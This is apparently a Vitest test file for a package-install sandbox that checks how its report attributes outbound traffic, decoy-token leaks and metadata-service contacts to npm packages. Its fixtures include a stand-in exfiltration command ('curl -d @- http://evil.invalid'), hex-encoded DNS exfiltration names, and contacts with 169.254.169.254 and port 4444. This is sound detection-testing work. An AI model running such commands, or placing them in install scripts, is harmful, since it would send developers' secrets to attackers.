import { describe, expect, it } from 'vitest';
import type { EgressLeak } from '../../../../src/egress/content/leak.js';
import type { EgressRequest } from '../../../../src/egress/content/request.js';
import type { EgressRecord } from '../../../../src/egress/record.js';
import { buildReport } from '../../../../src/report/build.js';
import { Contacts } from '../../../../src/report/evidence/egress/contacts.js';
import { reportSchema } from '../../../../src/report/report.js';
import { alertAt, evidence, folded, PROJECT, pkg, REFUSED, scriptsOf, treeOf } from '../../evidence.js';
import { GET } from '../../requests.js';

describe('egress is attributed to the process that asked', () => {
  const packages = [pkg('.', ['a']), pkg('node_modules/a', [], ['postinstall'])];
  const tree = treeOf([...scriptsOf('a'), [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js']]);
  const asked = (rule: string, fields: Record<string, string>) => {
    const contacts = new Contacts();
    contacts.add(alertAt(3, rule, { 'proc.pid': '20', ...fields }, 'DEBUG'));
    return contacts;
  };

  it.each([
    [
      'a DNS question, as Falco renders its bytes',
      'exfil.attacker.invalid',
      'E............exfil.attacker.invalid.....',
      'a',
    ],
    ['a DNS question of another case', 'x.invalid', 'E............X.InvaliD.....', 'a'],
    [
      'a long label, whose length byte is printable',
      `${'d'.repeat(40)}.invalid`,
      `E............(${'d'.repeat(40)}.invalid.`,
      'a',
    ],
    ['another name', 'y.invalid', 'E............x.invalid.....', undefined],
    ['a name that only ends alike', 'x.invalid', 'E............max.invalid.....', undefined],
  ])('%s', (_title, host, data, name) => {
    const contacts = asked('Packwarden name lookup', { 'evt.arg.data': data });
    const report = buildReport(evidence({ packages, tree, contacts, egress: [{ ...REFUSED, host }] }));
    expect(report.findings[0]?.package?.name).toBe(name);
    expect(report.egress[0]?.package?.name).toBe(name);
  });

  it.each([
    [40_000, 'a'],
    [40_001, undefined],
  ])('a proxy request from port %i', (port, name) => {
    const contacts = asked('Packwarden proxy connection', { 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' });
    const record = { ...REFUSED, via: 'proxy', port: 443, clientPorts: [port] } as const;
    const report = buildReport(evidence({ packages, tree, contacts, egress: [record] }));
    expect(report.findings[0]?.package?.name).toBe(name);
  });
});

const leak = {
  secret: 'npm token',
  host: 'evil.invalid',
  port: null,
  via: 'dns',
  where: 'name',
  encoding: 'hex',
  count: 3,
  first: 1_795_226_323_000,
  last: 1_795_226_324_000,
  asked: '6e706d5f.evil.invalid',
  clientPorts: [],
} as const;
const dataNames = {
  parent: 'evil.invalid',
  via: 'dns',
  example: '6e706d5f.evil.invalid',
  names: 30,
  payload: 900,
  severity: 'certain',
  first: 1_795_226_323_000,
  last: 1_795_226_324_000,
  clientPorts: [],
} as const;
const packages = [
  pkg('.', ['a', 'b']),
  pkg('node_modules/a', [], ['postinstall']),
  pkg('node_modules/b', [], ['postinstall']),
];
const tree = treeOf([
  ...scriptsOf('a', 10),
  ...scriptsOf('b', 11),
  [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js'],
  [2, 30, 11, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
]);

describe('what the gateway saw', () => {
  it('a decoy on its way out is critical, and names decoy, host and package', () => {
    const contacts = new Contacts();
    contacts.add(
      alertAt(3, 'Packwarden name lookup', {
        'proc.pid': '20',
        'evt.arg.data': 'x............6e706d5f.evil.invalid....',
      }),
    );
    const report = buildReport(evidence({ packages, tree, contacts, leaks: [leak] }));
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'Decoy left the sandbox', priority: 'CRITICAL', decoy: 'npm token', count: 3 }),
    ]);
    expect(report.findings[0]?.package?.name).toBe('a');
    expect(report.findings[0]?.alert.output).toContain('decoy npm token left the sandbox towards host evil.invalid');
    expect(reportSchema.parse(report)).toEqual(report);
  });

  describe('a token that is sent to its issuer', () => {
    const shown = {
      ...leak,
      secret: 'CI variable GITHUB_TOKEN',
      host: 'api.github.com',
      asked: 'api.github.com',
      port: 443,
      via: 'proxy',
      where: 'header',
      encoding: 'plain',
      count: 1,
      clientPorts: [40_000],
    } as const;
    const request = { ...GET, path: '/repos/maker/a/releases/latest', clientPorts: [40_000] };
    const judged = (left: Partial<EgressLeak>, asked: Partial<EgressRequest>, more: Partial<EgressRecord> = {}) => {
      const contacts = new Contacts();
      contacts.add(
        alertAt(3, 'Packwarden proxy connection', { 'proc.pid': '20', 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' }),
      );
      const host = left.host ?? shown.host;
      const row = { ...REFUSED, host, via: 'proxy', port: 443, clientPorts: [40_000] } as const;
      const egress = [{ ...row, requests: [{ ...request, ...asked }], ...more }];
      const sites = ['https://github.com/maker/a/'];
      const made = packages.map((one) => (one.name === 'a' ? { ...one, sites } : one));
      const report = buildReport(evidence({ packages: made, tree, contacts, egress, leaks: [{ ...shown, ...left }] }));
      return [...report.findings, ...report.observations].find(({ rule }) => rule === 'Decoy left the sandbox');
    };

    it('with a question for the own releases is an observation (supabase 3)', () => {
      const one = judged({}, {});
      expect(one).toMatchObject({ priority: 'NOTICE', decoy: 'CI variable GITHUB_TOKEN', weighed: true });
      expect(one?.package?.name).toBe('a');
    });

    it.each<[string, Partial<EgressLeak>, Partial<EgressRequest>, Partial<EgressRecord>]>([
      ["of another's releases", {}, { path: '/repos/evil/b/releases/latest' }, {}],
      ['who its owner is', {}, { path: '/user' }, {}],
      ['with a repository that is made', {}, { method: 'POST', path: '/user/repos', bodyBytes: 9 }, {}],
      ['with something sent to the own repository', {}, { method: 'PUT', path: '/repos/maker/a/contents/x' }, {}],
      ['of another service', { secret: 'npm token' }, {}, {}],
      ['elsewhere', { host: 'maker.example', asked: 'maker.example' }, {}, {}],
      ['encoded', { encoding: 'base64' }, {}, {}],
      ['in the path', { where: 'url' }, {}, {}],
      ['in a body', { where: 'body' }, {}, {}],
      ['by more connections than are known', { clientPorts: [40_000, 40_001], count: 2 }, {}, {}],
      ['more often than there were connections', { count: 2 }, {}, {}],
      ['beside requests that are not known', {}, {}, { requestsLeft: 1 }],
      ['beside what could not be read', {}, {}, { unread: [{ reason: 'not-http', serverName: null, count: 1 }] }],
    ])('%s stays critical', (_title, left, asked, more) => {
      expect(judged(left, asked, more)).toMatchObject({ priority: 'CRITICAL' });
    });
  });

  it('is a finding although the policy let it through', () => {
    const row = { ...REFUSED, allowed: true, via: 'proxy' } as const;
    const report = buildReport(evidence({ egress: [row], leaks: [{ ...leak, via: 'proxy', where: 'body' }] }));
    expect(report.verdict).toBe('findings');
  });

  it.each([
    ['certain', 'CRITICAL'],
    ['likely', 'WARNING'],
  ] as const)('names that carry data, %s: %s', (severity, priority) => {
    const report = buildReport(evidence({ dataNames: [{ ...dataNames, severity }] }));
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'Data in host names', priority, count: 30, package: null }),
    ]);
    expect(report.findings[0]?.alert.output_fields).toMatchObject({
      'egress.target': 'evil.invalid',
      'egress.names': '30',
      'egress.example': '6e706d5f.evil.invalid',
    });
  });

  it('the metadata address by the proxy is as bad as a direct contact', () => {
    const report = buildReport(evidence({ egress: [{ ...REFUSED, host: '169.254.169.254', via: 'proxy', port: 80 }] }));
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'Contact with the cloud metadata service', priority: 'CRITICAL' }),
    ]);
  });

  it('one host asked for by two packages is two findings', () => {
    const contacts = new Contacts();
    for (const [pid, port] of [
      ['20', 40_000],
      ['30', 40_001],
    ]) {
      contacts.add(
        alertAt(3, 'Packwarden proxy connection', {
          'proc.pid': `${pid}`,
          'fd.name': `172.18.0.2:${port}->172.18.0.1:3128`,
        }),
      );
    }
    const row = { ...REFUSED, via: 'proxy', port: 80, clientPorts: [40_000, 40_001] } as const;
    const report = buildReport(evidence({ packages, tree, contacts, egress: [row] }));
    expect(report.findings.map(({ package: by, count }) => [by?.name, count])).toEqual([
      ['a', 1],
      ['b', 1],
    ]);
  });
});

describe('a tool in the steps of two packages (node-pre-gyp of bcrypt 5 and canvas 2)', () => {
  const tool = `${PROJECT}/node_modules/tool`;
  const made = [
    ...packages.map((one) => (one.name === '' ? one : { ...one, sites: [`https://github.com/maker/${one.name}/`] })),
    pkg('node_modules/tool', []),
  ];
  const steps = treeOf([
    ...scriptsOf('a', 10),
    ...scriptsOf('b', 11),
    [2, 20, 10, `${PROJECT}/node_modules/a`, `node ${tool}/install.js`],
    [2, 30, 11, `${PROJECT}/node_modules/b`, `node ${tool}/install.js`],
  ]);
  const judged = (...paths: readonly (readonly [port: number, path: string])[]) => {
    const contacts = new Contacts();
    for (const [pid, port] of [
      ['20', 40_000],
      ['30', 40_001],
    ]) {
      contacts.add(
        alertAt(3, 'Packwarden proxy connection', {
          'proc.pid': `${pid}`,
          'fd.name': `172.18.0.2:${port}->172.18.0.1:3128`,
        }),
      );
    }
    const requests = paths.map(([port, path]) => ({ ...GET, path, clientPorts: [port] }));
    const row = { ...REFUSED, host: 'github.com', via: 'proxy', port: 443, clientPorts: [40_000, 40_001] } as const;
    return buildReport(evidence({ packages: made, tree: steps, contacts, egress: [{ ...row, requests }] }));
  };

  it('asks the site of each, and accuses nobody', () => {
    const report = judged([40_000, '/maker/a/releases/x.gz'], [40_001, '/maker/b/releases/x.gz']);
    expect(report.findings).toEqual([]);
    expect(report.observations.map(({ package: by, ranBy, known }) => [by?.name, ranBy?.name, known])).toEqual([
      ['tool', 'a', expect.stringContaining('its own site')],
      ['tool', 'b', expect.stringContaining('its own site')],
    ]);
  });

  it("is a finding where it asks for the other's", () => {
    const report = judged([40_000, '/maker/a/releases/x.gz'], [40_001, '/maker/a/releases/x.gz']);
    expect(report.findings.map(({ ranBy }) => ranBy?.name)).toEqual(['b']);
  });
});

describe('the rows of egress', () => {
  it('tell bytes, times, and the process', () => {
    const contacts = new Contacts();
    contacts.add(
      alertAt(3, 'Packwarden proxy connection', { 'proc.pid': '30', 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' }),
    );
    const row = {
      ...REFUSED,
      allowed: true,
      via: 'proxy',
      port: 443,
      clientPorts: [40_000],
      bytesSent: 7,
      bytesReceived: 9,
    } as const;
    const report = buildReport(evidence({ packages, tree, contacts, egress: [row] }));
    expect(report.egressMode).toBe('registry');
    expect(report.egress).toEqual([
      expect.objectContaining({
        bytesSent: 7,
        bytesReceived: 9,
        first: '1970-01-01T00:00:00.001Z',
        last: '1970-01-01T00:00:00.002Z',
        process: expect.objectContaining({ pid: 30, cmdline: 'curl -d @- http://evil.invalid' }),
      }),
    ]);
  });

  it("contacts with another job's gateway are direct attempts, those with its own are not", () => {
    const contacts = new Contacts();
    const contact = (port: number, peer: string, rule = 'Packwarden proxy connection') =>
      contacts.add(alertAt(port / 1000 - 37, rule, { 'proc.pid': '20', 'fd.name': `172.18.0.2:${port}->${peer}` }));
    contact(40_000, '172.18.0.1:3128');
    contact(40_001, '172.19.0.1:3128');
    contact(40_002, '172.19.0.1:3128');
    contact(40_003, '172.19.0.1:53', 'Packwarden name lookup');
    contact(40_004, '127.0.0.11:53', 'Packwarden name lookup');
    const report = buildReport(evidence({ packages, tree, contacts, gateway: '172.18.0.1' }));
    expect(report.findings).toHaveLength(1);
    expect(report.findings[0]).toMatchObject({
      rule: 'Outbound connection past the gateway',
      package: { name: 'a' },
      priority: 'WARNING',
      count: 3,
      places: [{ count: 2 }, { count: 1 }],
    });
    const rows = report.egress.map(({ host, port, via, allowed, count }) => ({ host, port, via, allowed, count }));
    expect(rows).toEqual(
      expect.arrayContaining([
        { host: '172.19.0.1', port: 3128, via: 'direct', allowed: false, count: 2 },
        { host: '172.19.0.1', port: 53, via: 'direct', allowed: false, count: 1 },
      ]),
    );
  });

  it('a direct attempt is a row, and one finding', () => {
    const to = { 'proc.pid': '20', 'fd.sip': '203.0.113.9', 'fd.sport': '4444' };
    const direct = [
      folded(alertAt(3, 'Outbound connection past the gateway', to), 2),
      folded(alertAt(5, 'Outbound connection past the gateway', { ...to, 'proc.pid': '30' })),
      folded(
        alertAt(6, 'Outbound connection past the gateway', { ...to, 'fd.sip': '169.254.169.254', 'fd.sport': '80' }),
      ),
      folded(
        alertAt(
          6,
          'Contact with the cloud metadata service',
          { ...to, 'fd.sip': '169.254.169.254', 'fd.sport': '80' },
          'CRITICAL',
        ),
      ),
    ];
    const report = buildReport(evidence({ packages, tree, alerts: direct }));
    expect(report.findings.map(({ rule, count }) => [rule, count])).toEqual([
      ['Contact with the cloud metadata service', 1],
      ['Outbound connection past the gateway', 3],
      ['Outbound connection past the gateway', 1],
    ]);
    expect(report.egress).toEqual([
      expect.objectContaining({ host: '203.0.113.9', port: 4444, via: 'direct', allowed: false, count: 3 }),
      expect.objectContaining({ host: '169.254.169.254', port: 80, via: 'direct', count: 1 }),
    ]);
    expect(report.egress[0]).toMatchObject({ package: { name: 'a' }, process: { pid: 20 } });
    expect(reportSchema.parse(report)).toEqual(report);
  });
});

it('attempts that found no row of their own make the run unwatched', () => {
  const report = buildReport(evidence({ egress: [REFUSED, { ...REFUSED, host: '(others)', count: 150 }] }));
  expect(report.verdict).toBe('incomplete');
  expect(report.incomplete).toEqual([
    {
      code: 'alerts-overflowed',
      message: 'there were 150 more attempts to reach something than a report can distinguish',
    },
  ]);
});

describe('what was sent', () => {
  const request = {
    method: 'POST',
    path: '/in?d=1',
    headers: ['host'],
    headerValues: '',
    status: 200,
    bodyBytes: 8,
    bodyKind: 'form',
    body: 'secret=1',
    tells: ['the host name'],
    count: 1,
    at: 1_795_226_323_000,
    clientPorts: [],
  } as const;
  const bare = { ...request, path: '/a', bodyBytes: 0, bodyKind: 'none', body: '', tells: [] } as const;
  const record = { ...REFUSED, via: 'proxy', port: 443, requests: [bare, request] } as const;

  it('is shown in the row, and its most significant part in the finding', () => {
    const report = buildReport(evidence({ egress: [record] }));
    expect(report.egress[0]?.requests).toHaveLength(2);
    expect(report.findings[0]?.alert.output).toContain(
      'POST /in?d=1 (answered 200, 8 bytes of form data, with the host name): secret=1',
    );
    expect(reportSchema.safeParse(report).success).toBe(true);
  });
});
